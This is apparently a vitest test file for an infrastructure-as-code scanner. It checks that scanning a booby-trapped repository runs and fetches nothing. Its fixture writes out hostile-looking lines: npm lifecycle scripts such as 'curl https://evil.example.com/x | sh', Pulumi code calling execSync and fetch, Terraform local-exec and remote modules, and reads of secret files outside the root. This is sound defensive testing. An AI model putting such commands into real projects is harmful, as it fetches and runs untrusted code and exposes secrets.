/**
 * Nothing in a scanned repository is executed or fetched (issue 11, item 5). The built CLI runs
 * with test/support/no-escape.mjs preloaded, which records and refuses every attempt to start a
 * process, open a socket, resolve a name or fetch, on a repository whose files try every trick:
 * npm lifecycle scripts, a Pulumi program with side effects in its imports (static, dynamic,
 * required), Terraform local-exec, external and http data sources, reads outside the root,
 * remote module sources, a CloudFormation AWS::Include transform. The scan must finish with its
 * usual findings, create no file, and record no attempt.
 */
import { existsSync, readFileSync } from "node:fs";
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { BIN, REPO } from "../support/cli.js";
import { run, type Run } from "../install/helpers.js";
import { tempDir, writeTree } from "../support/tmp.js";

const PRELOAD = join(REPO, "test/support/no-escape.mjs");

let dir: string;
let pwned: string;
let log: string;

/** Creates `pwned` when executed: the proof that something in the repository ran. */
const sideEffect = (how: string) => `require("node:fs").writeFileSync(${JSON.stringify(pwned)}, ${JSON.stringify(how)});\n`;

beforeAll(async () => {
  dir = await tempDir("driftless-no-escape-");
  pwned = `${dir}.pwned`;
  log = `${dir}.attempts.log`;
  await writeFile(log, "");
  await mkdir(join(dir, ".git"));
  await writeFile(`${dir}-secret.txt`, "root:x:0:0:secret\n");
  await writeTree(dir, {
    "package.json": JSON.stringify({ name: "infra", scripts: { preinstall: "touch pwned", postinstall: "curl https://evil.example.com/x | sh", prepare: "node evil.js" } }),
    "evil.js": sideEffect("evil.js ran"),
    "app/Pulumi.yaml": "name: app\nruntime: nodejs\nmain: index.ts\n",
    "app/package.json": JSON.stringify({ name: "app", main: "index.ts", dependencies: { "@pulumi/aws": "6.0.0" }, scripts: { postinstall: "node ../evil.js" } }),
    "app/index.ts": [
      'import * as aws from "@pulumi/aws";',
      'import "./side-effect";',
      'import { execSync } from "child_process";',
      'execSync("touch pwned");',
      'fetch("https://evil.example.com/beacon");',
      'const later = await import("./later");',
      'require("./required");',
      'new aws.ec2.Instance("web", { ami: "ami-1", keyName: "ops", userData: later.script });',
      "",
    ].join("\n"),
    "app/side-effect.ts": sideEffect("side-effect.ts ran"),
    "app/later.ts": `${sideEffect("later.ts ran")}export const script = "#!/bin/sh\\n";\n`,
    "app/required.ts": sideEffect("required.ts ran"),
    "tf/main.tf": [
      'resource "null_resource" "run" {',
      '  provisioner "local-exec" {',
      `    command = "touch ${pwned}"`,
      "  }",
      "}",
      'data "external" "x" {',
      `  program = ["sh", "-c", "touch ${pwned}"]`,
      "}",
      'data "http" "x" {',
      '  url = "https://evil.example.com/config"',
      "}",
      'module "remote" {',
      '  source = "git::https://evil.example.com/module.git"',
      "}",
      'resource "aws_instance" "web" {',
      '  ami       = "ami-1"',
      '  key_name  = "ops"',
      `  user_data = file("../../${dir.split("/").pop()}-secret.txt")`,
      `  tags      = { t = templatefile("/etc/hostname", {}) }`,
      "}",
      "",
    ].join("\n"),
    "cfn/template.yaml": [
      "Transform:",
      "  Name: AWS::Include",
      "  Parameters:",
      "    Location: https://evil.example.com/snippet.yaml",
      "Resources:",
      "  Web:",
      "    Type: AWS::EC2::Instance",
      "    Properties:",
      "      KeyName: ops",
      "",
    ].join("\n"),
  });
});

describe("a scan executes and fetches nothing", () => {
  let result: Run;
  beforeAll(async () => {
    // Every report, SARIF's version-control provenance included (read from .git, not from git).
    const reports = ["--format", "json", "--format", "sarif", "--format", "text", "--output", "-", "--output", `${dir}.sarif`, "--output", `${dir}.txt`];
    result = await run(process.execPath, ["--import", PRELOAD, BIN, "scan", ".", ...reports], { cwd: dir, env: { NO_ESCAPE_LOG: log }, timeout: 120_000 });
  }, 120_000);

  it("records no attempt to start a process, connect, resolve or fetch", () => {
    expect(readFileSync(log, "utf8")).toBe("");
    expect(readFileSync(`${dir}.sarif`, "utf8")).toContain('"toolExecutionNotifications"');
    expect(result.stderr).not.toMatch(/no-escape/);
  });

  it("the preload does refuse: a scan that tried would be caught", async () => {
    const probe = await run(process.execPath, ["--import", PRELOAD, "-e", 'require("node:child_process").execSync("true")'], { cwd: dir, env: { NO_ESCAPE_LOG: `${log}.probe` }, timeout: 30_000 });
    expect(probe.code).not.toBe(0);
    expect(readFileSync(`${log}.probe`, "utf8")).toMatch(/^child_process\.execSync \["true"\]/);
  });

  it("nothing in the repository ran", () => {
    expect(existsSync(pwned)).toBe(false);
    expect(existsSync(join(dir, "pwned"))).toBe(false);
    expect(existsSync(join(dir, "app", "pwned"))).toBe(false);
  });

  it("the scan finished with its findings, and says what it did not read", () => {
    expect(result.code).toBe(1);
    const findings = (JSON.parse(result.stdout) as { findings: { ruleId: string; file: string; message: string; range: { start: { line: number } } }[] }).findings;
    const seen = findings.map((f) => `${f.file}:${f.range.start.line} ${f.ruleId}`);
    expect(seen).toEqual(expect.arrayContaining(["tf/main.tf:2 RNP-002", "tf/main.tf:17 ACC-003", "app/index.ts:8 ACC-003", "cfn/template.yaml:9 ACC-003"]));
    const notices = findings.filter((f) => f.ruleId === "IAC-000").map((f) => `${f.file}:${f.range.start.line} ${f.message}`);
    expect(notices).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^tf\/main\.tf:18 driftless does not read \.\.\/\.\.\/.*-secret\.txt: .*outside the scanned repository/),
        expect.stringMatching(/^tf\/main\.tf:19 driftless does not read \/etc\/hostname: /),
      ]),
    );
    expect(result.stdout).not.toContain("root:x:0:0:secret");
  });
});
